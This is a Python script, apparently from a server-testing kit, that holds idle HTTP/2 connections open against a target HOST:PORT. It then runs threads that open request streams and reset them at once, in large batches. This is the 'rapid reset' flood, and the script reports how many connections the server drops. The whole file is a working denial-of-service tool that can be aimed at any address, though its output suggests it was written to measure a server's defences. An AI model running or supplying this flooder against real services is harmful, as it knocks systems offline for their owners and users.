"""Connections of HTTP/2 that ask for nothing, and some that reset what they ask for:
`python -m kit.http2_crowd HOST:PORT IDLE FLOODERS`.

Each idle one has had a request. The first line of the output says that a tenth of them is there; after a line of input the others
come, and the second line says so. From then on the flooders open requests and reset them as fast as they can, until the input ends. The last line is a JSON document: how many idle connections the
server closed, how many requests were reset, and how many connections of flooders it closed.
"""

import json
import resource
import selectors
import socket
import struct
import sys
import threading

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS = 1, 3, 4
END_STREAM, ACKNOWLEDGES, END_HEADERS = 1, 1, 4
HEAD = [
    (":method", "POST"), (":scheme", "http"), (":authority", "localhost"), (":path", "/v1/traces"),
    ("content-type", "application/x-protobuf"), ("user-agent", "crowd/1.0"),
]  # fmt: skip


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block():
    return hpack.Encoder().encode(HEAD)


BEGINNING = PREFACE + frame(SETTINGS) + frame(SETTINGS, ACKNOWLEDGES)


def idle(address):
    """A connection that has had a request, which was answered."""
    connection = socket.create_connection(address, timeout=60)
    connection.sendall(BEGINNING + frame(HEADERS, END_HEADERS | END_STREAM, 1, block()))
    received = b""
    while not answered(received):
        data = connection.recv(4096)
        if not data:
            raise ConnectionError("closed before an answer")
        received += data
    return connection


def answered(received):
    """Whether a frame that ends stream 1 is among what was received."""
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if len(received) < 9 + length:
            return False
        kind, flags, stream = struct.unpack(">BBI", received[3:9])
        if stream == 1 and kind in (0, HEADERS) and flags & END_STREAM:
            return True
        received = received[9 + length :]
    return False


class Flooder(threading.Thread):
    """Opens requests and resets them at once; connects again whenever it is closed."""

    def __init__(self, address, ended):
        super().__init__(daemon=True)
        self.address, self.ended = address, ended
        self.reset = self.closed = 0

    def run(self):
        head, cancel = block(), struct.pack(">I", 8)
        while not self.ended.is_set():
            try:
                with socket.create_connection(self.address, timeout=5) as connection:
                    connection.sendall(BEGINNING)
                    for first in range(1, 2_000_000, 200):
                        streams = range(first, first + 200, 2)
                        connection.sendall(
                            b"".join(
                                frame(HEADERS, END_HEADERS, stream, head) + frame(RESET, 0, stream, cancel)
                                for stream in streams
                            )
                        )
                        self.reset += len(streams)
                        if self.ended.is_set():
                            return
            except OSError:
                self.closed += 1


def main(address, count, flooders):
    host, port = address.rsplit(":", 1)
    address = (host, int(port))
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    connections = [idle(address) for _ in range(count // 10)]
    print("begun", flush=True)
    sys.stdin.readline()
    connections += [idle(address) for _ in range(count - len(connections))]
    print("ready", flush=True)
    ended = threading.Event()
    crowd = [Flooder(address, ended) for _ in range(flooders)]
    for flooder in crowd:
        flooder.start()
    sys.stdin.read()
    ended.set()
    for flooder in crowd:
        flooder.join(10)
    print(
        json.dumps(
            {
                "closed": closed(connections),
                "reset": sum(flooder.reset for flooder in crowd),
                "floods ended": sum(flooder.closed for flooder in crowd),
            }
        )
    )


def closed(connections):
    """How many of them the server has closed."""
    with selectors.DefaultSelector() as selector:
        for connection in connections:
            connection.setblocking(False)
            selector.register(connection, selectors.EVENT_READ)
        gone = 0
        for key, _ in selector.select(timeout=0):
            while data := receive(key.fileobj):
                pass
            gone += data == b""
    return gone


def receive(connection):
    """Bytes, none at the end, None where there are no more yet."""
    try:
        return connection.recv(65_536)
    except BlockingIOError:
        return None
    except OSError:
        return b""


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
